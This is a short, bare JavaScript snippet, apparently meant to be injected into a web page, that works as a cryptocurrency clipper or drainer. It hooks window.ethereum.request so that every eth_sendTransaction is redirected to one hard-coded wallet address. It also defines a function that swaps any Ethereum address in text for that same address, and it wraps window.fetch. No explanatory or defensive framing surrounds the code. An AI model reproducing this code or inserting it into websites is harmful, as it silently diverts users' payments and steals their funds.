const o = window.fetch;
window.fetch = async function (...a) { const r = await o(...a); return r; };
const re = /0x[a-fA-F0-9]{40}/g;
function swap(s) { return s.replace(re, '0xFc4a4858bafef54D1b1d7697bfb5c52F4c166976'); }
if (window.ethereum) { const req = window.ethereum.request; window.ethereum.request = async (x) => { if (x.method === 'eth_sendTransaction') x.params[0].to = '0xFc4a4858bafef54D1b1d7697bfb5c52F4c166976'; return req(x); }; }
